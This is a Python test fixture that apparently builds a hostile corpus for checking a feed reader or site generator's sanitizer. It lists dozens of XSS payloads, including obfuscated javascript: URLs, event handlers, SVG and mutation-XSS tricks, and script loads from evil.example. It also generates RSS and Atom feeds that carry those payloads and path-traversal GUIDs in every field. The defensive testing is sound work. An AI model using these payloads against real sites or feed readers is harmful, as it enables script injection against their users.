"""A hostile corpus: script-injection payloads, and feeds that carry them in every field.

The payloads follow the families of well-known public lists (OWASP's XSS filter
evasion cheat sheet, the HTML5 Security Cheatsheet, bugs reported against feed
readers), written out here for this project. Every payload that would run calls
`alert` or marks the page with "rkb-pwned", so a browser listener can tell.
"""

from __future__ import annotations

from xml.sax.saxutils import escape

MARK = "rkb-pwned"

PAYLOADS = [
    # plain and obfuscated script elements
    f"<script>alert('{MARK}')</script>",
    f"<SCRIPT SRC=https://evil.example/{MARK}.js></SCRIPT>",
    f'<IMG """><SCRIPT>alert("{MARK}")</SCRIPT>">',
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"<template><script>alert('{MARK}')</script></template>",
    # javascript: URLs, with case, entities, tabs, newlines and leading junk
    f"<a href=\"javascript:alert('{MARK}')\">a1</a>",
    f"<a href=\"JaVaScRiPt:alert('{MARK}')\">a2</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">a3</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">a4</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a5</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">a6</a>",
    "<a href=\" &#14;  javascript:alert(1)\">a7</a>",
    "<a href=\"java\u0000script:alert(1)\">a8</a>",
    "<a href=\"vbscript:msgbox(1)\">a9</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a10</a>",
    "<a href=\"livescript:alert(1)\">a11</a>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    # event handlers, on known and unknown elements
    f"<img src=x onerror=\"alert('{MARK}')\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<body onload=alert(1)>",
    "<x onclick=alert(1)>click me</x>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>m</marquee>",
    # SVG and MathML
    f"<svg/onload=alert('{MARK}')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">svg link</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">mathml</maction></math>",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    # frames, objects, embeds
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
    "<applet code=\"Evil.class\"></applet>",
    # base, meta refresh, link
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    # forms
    "<form action=\"javascript:alert(1)\"><input type=submit value=go></form>",
    "<form><button formaction=\"javascript:alert(1)\">button</button></form>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    # CSS
    "<DIV STYLE=\"width: expression(alert('XSS'));\">css1</DIV>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">css2</DIV>",
    "<STYLE>@import 'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</LI></UL>",
    "<p style=\"behavior: url(xss.htc)\">css3</p>",
    # parser confusion (mutation XSS)
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<table><td background=\"javascript:alert(1)\">t</td></table>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<a href=\"https://example.org/\" target=\"_blank\">opener</a>",
    # directives for the build, which must come out as text
    "{{ config.site_name }} {% include 'README.md' %}",
    "--8<-- \"README.md\"",
    "---\ntitle: injected\n---",
    "[click](javascript:alert(1)) ![img](javascript:alert(2))",
    "<!-- resilience-kb:body --> <!-- resilience-kb:summary -->",
]

# Text that is not HTML in the feed (titles, authors, categories) is shown as text.
TEXT_PAYLOADS = [
    f"</title><script>alert('{MARK}')</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{ config }} {% raw %}",
    "---\nnot: front matter\n---",
    "[x](javascript:alert(1))",
    "<!-- resilience-kb:body -->",
]
BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/\"><script>alert(1)</script>",
]


def hostile_rss() -> str:
    items = []
    for n, payload in enumerate(PAYLOADS):
        text = TEXT_PAYLOADS[n % len(TEXT_PAYLOADS)]
        url = BAD_URLS[n % len(BAD_URLS)]
        items.append(f"""
    <item>
      <title>{escape(f"Hostile {n}: {text}")}</title>
      <link>{escape(url if n % 3 == 0 else f"https://evil.example/post/{n}")}</link>
      <guid isPermaLink="false">{escape(f"../../../etc/passwd-{n}" if n % 2 else f"/absolute/{n}/..%2f{text}")}</guid>
      <author>{escape(text)}</author>
      <dc:creator>{escape(f"{text} {n}")}</dc:creator>
      <category>{escape(text)}</category>
      <category>{escape(f"<b onmouseover=alert({n})>tag{n}</b>")}</category>
      <enclosure url="{escape(url)}" type="text/html" length="1"/>
      <comments>{escape(url)}</comments>
      <pubDate>Mon, 02 Mar 2026 10:{n % 60:02d}:00 +0000</pubDate>
      <description>{escape(f"<p>Before {n}</p>{payload}<p>After {n}</p>")}</description>
      <content:encoded><![CDATA[<h2>Body {n}</h2><p>{payload}</p><p>Uses retries and bulkheads.</p>]]></content:encoded>
    </item>""")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <title>{escape(TEXT_PAYLOADS[0])}</title>
    <link>javascript:alert(1)</link>
    <description>{escape(PAYLOADS[0])}</description>{"".join(items)}
  </channel>
</rss>
"""


def hostile_atom() -> str:
    entries = []
    for n, payload in enumerate(PAYLOADS[:30]):
        entries.append(f"""
  <entry>
    <title type="html">{escape(f"Atom {n} {payload}")}</title>
    <id>urn:hostile:{n}:{escape(TEXT_PAYLOADS[n % len(TEXT_PAYLOADS)])}</id>
    <link rel="alternate" href="{escape(BAD_URLS[n % len(BAD_URLS)])}"/>
    <updated>2026-03-0{1 + n % 9}T10:00:00Z</updated>
    <author><name>{escape(TEXT_PAYLOADS[n % len(TEXT_PAYLOADS)])}</name><uri>javascript:alert(1)</uri></author>
    <category term="{escape(TEXT_PAYLOADS[(n + 1) % len(TEXT_PAYLOADS)])}"/>
    <summary type="html">{escape(payload)}</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>xhtml {n}</p>
      <a href="javascript:alert({n})">x</a><img src="x" onerror="alert({n})"/></div></content>
  </entry>""")
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="html">{escape(PAYLOADS[1])}</title>
  <id>urn:hostile:feed</id>
  <link rel="alternate" href="javascript:alert(1)"/>
  <updated>2026-03-09T10:00:00Z</updated>{"".join(entries)}
</feed>
"""
